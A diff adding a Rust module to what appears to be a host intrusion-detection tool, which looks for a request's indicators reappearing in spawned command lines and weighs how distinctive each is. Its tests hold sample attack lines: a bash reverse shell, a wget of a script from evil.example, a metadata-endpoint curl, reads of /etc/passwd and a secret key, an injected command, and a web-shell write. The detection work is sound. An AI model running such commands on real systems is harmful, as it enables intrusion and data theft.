@@ -1,0 +1,173 @@
+//! Indicator echo: what a request said that reappears on the host. In: indicators of a verdict, and the surface of a finding
+//! (command lines below the service, peers, names looked up). Out: the echoes, each marked distinctive or common.
+//!
+//! A common word (`id`, `/etc/passwd`, a metadata address that every SDK asks) proves nothing by itself; it counts only while
+//! its request is in flight, which the caller checks.
+
+use std::collections::BTreeMap;
+use std::net::{IpAddr, SocketAddr};
+
+use crate::evidence::{HostFinding, Placement};
+use crate::incident::Echo;
+use crate::metadata;
+
+use super::sought::{Form, Sought, address_of, host_form, host_of, words};
+
+/// Most words of one finding's command lines that are compared; a command line is bounded at 4 KiB, its lineage at 16 nodes.
+const WORDS_MAX: usize = 1024;
+/// Shortest URL that is looked for inside longer words.
+const URL_WITHIN_WORD: usize = 10;
+/// Shortest path that is looked for: `/x` ends half of all words.
+const PATH_MIN: usize = 4;
+
+/// What a finding shows that a request may have said before.
+#[derive(Clone, Debug, Default)]
+pub(super) struct Surface {
+    /// Words of the command lines, lower case, in order.
+    words: Vec<String>,
+    /// Addresses named or reached, with where.
+    addresses: BTreeMap<IpAddr, String>,
+    /// Host names named or looked up, with where.
+    hosts: BTreeMap<String, String>,
+    /// The first command line, for the sentence.
+    shown: String,
+}
+
+impl Surface {
+    /// Of a process and its ancestors up to the service, which is what a request can have brought about: the service's own
+    /// command line was there before.
+    pub(super) fn of(place: &Placement) -> Self {
+        let mut surface = Self::default();
+        let service = place.service.as_ref().map(|service| service.process);
+        for node in place.lineage.iter().take_while(|node| Some(node.process) != service).take(8) {
+            // Ancestors of a process without a known service reach up to init: only what has its parent's company is new.
+            if service.is_none() && !surface.words.is_empty() {
+                break;
+            }
+            surface.read(&node.command_line);
+        }
+        surface
+    }
+
+    /// Adds what a metadata finding reached.
+    pub(super) fn with_finding(mut self, finding: &HostFinding) -> Self {
+        if let HostFinding::Metadata { endpoint, role, .. } = finding {
+            self.addresses.insert(metadata::canonical(endpoint.ip()), format!("the endpoint {endpoint}"));
+            self.words.extend(role.iter().map(|role| role.to_lowercase()));
+        }
+        self
+    }
+
+    /// Adds a peer and the name it was reached by.
+    pub(super) fn with_peer(mut self, peer: SocketAddr, name: Option<&str>) -> Self {
+        self.addresses.insert(metadata::canonical(peer.ip()), format!("the peer {peer}"));
+        if let Some(name) = name {
+            self.hosts.insert(host_form(name), format!("the name {name}"));
+        }
+        self
+    }
+
+    fn read(&mut self, command_line: &str) {
+        if self.shown.is_empty() {
+            command_line.clone_into(&mut self.shown);
+        }
+        for word in words(command_line) {
+            if self.words.len() == WORDS_MAX {
+                return;
+            }
+            for part in word.split(['/', '@', '?', '#', '=']) {
+                if let Some(address) = address_of(part) {
+                    self.addresses.entry(address).or_insert_with(|| command_line.to_owned());
+                } else if let Some(host) = host_of(part) {
+                    self.hosts.entry(host).or_insert_with(|| command_line.to_owned());
+                }
+            }
+            self.words.push(word);
+        }
+    }
+
+    /// What of `sought` reappears here, in the same order.
+    pub(super) fn echoes(&self, sought: &[Sought]) -> Vec<Echo> {
+        sought.iter().filter_map(|sought| self.echo(sought)).collect()
+    }
+
+    fn echo(&self, sought: &Sought) -> Option<Echo> {
+        let (seen_in, distinctive) = self.find(&sought.form)?;
+        Some(Echo { indicator: sought.indicator.clone(), seen_in: seen_in.to_owned(), distinctive })
+    }
+
+    /// Where `form` reappears, and whether that is distinctive.
+    fn find(&self, form: &Form) -> Option<(&str, bool)> {
+        match form {
+            Form::Address { address, distinctive } => Some((self.addresses.get(address)?, *distinctive)),
+            Form::Host { host, distinctive } => {
+                let below =
+                    |name: &str| name.strip_suffix(host).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'));
+                let (_, seen) = self.hosts.iter().find(|(name, _)| below(name))?;
+                Some((seen, *distinctive))
+            }
+            Form::Url { url, authority } => {
+                let within = |word: &String| word == url || (url.len() >= URL_WITHIN_WORD && word.contains(url));
+                let whole = self.words.iter().any(within).then_some((self.shown.as_str(), true));
+                whole.or_else(|| self.find(authority.as_deref()?))
+            }
+            Form::Command { telling, distinctive } => {
+                let mut rest = self.words.iter();
+                let in_order = telling.iter().all(|word| rest.any(|seen| seen == word));
+                in_order.then_some((&self.shown, *distinctive))
+            }
+            Form::CommonCommand { words } => {
+                let together = !words.is_empty() && self.words.windows(words.len()).any(|window| window == words);
+                together.then_some((&self.shown, false))
+            }
+            Form::Path { path, distinctive } => {
+                let found = path.len() >= PATH_MIN && self.words.iter().any(|word| word.ends_with(path));
+                found.then_some((&self.shown, *distinctive))
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::request::Indicator;
+
+    fn surface(command_line: &str) -> Surface {
+        let mut surface = Surface::default();
+        surface.read(command_line);
+        surface
+    }
+
+    #[test]
+    fn what_reappears_is_found_and_weighed() {
+        let check = |indicator: Indicator, command_line: &str, expected: Option<bool>| {
+            let echo = surface(command_line).echo(&Sought::of(&indicator)).map(|echo| echo.distinctive);
+            assert_eq!(echo, expected, "{indicator:?} in {command_line}");
+        };
+        let address = |text: &str| Indicator::Address(text.parse().expect("address"));
+        let host = |text: &str| Indicator::Host(text.into());
+        let url = |text: &str| Indicator::Url(text.into());
+        let command = |text: &str| Indicator::Command(text.into());
+        let path = |text: &str| Indicator::Path(text.into());
+
+        check(address("203.0.113.7"), "sh -c curl http://203.0.113.7/x", Some(true));
+        check(address("203.0.113.7"), "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Some(true));
+        check(address("203.0.113.7"), "curl http://203.0.113.70/x", None);
+        check(address("2001:db8::7"), "curl http://[2001:db8::7]:8080/x", Some(true));
+        check(address("169.254.169.254"), "curl http://169.254.169.254/latest/", Some(false));
+        check(host("Evil.Example"), "wget -q http://evil.example/a.sh", Some(true));
+        check(host("evil.example"), "ping -c1 x9f2.evil.example", Some(true));
+        check(host("evil.example"), "wget http://notevil.example/", None);
+        check(url("http://evil.example/a.sh"), "sh -c wget http://evil.example/a.sh", Some(true));
+        check(url("http://evil.example/a.sh"), "curl -s EVIL.example", Some(true));
+        check(command("cat /srv/app/secret.key"), "sh -c cat /srv/app/secret.key", Some(true));
+        check(command("id"), "sh -c id", Some(false));
+        check(command("id"), "sh -c idle", None);
+        check(command("whoami"), "ls -l", None);
+        check(command("cat /etc/passwd"), "sh -c ping 127.0.0.1;cat /etc/passwd", Some(true));
+        check(path("/etc/passwd"), "cat /etc/passwd", Some(false));
+        check(path("/var/www/html/x7.php"), "sh -c echo hi > /var/www/html/x7.php", Some(true));
+        check(path("/x"), "sh -c /x", None);
+    }
+}
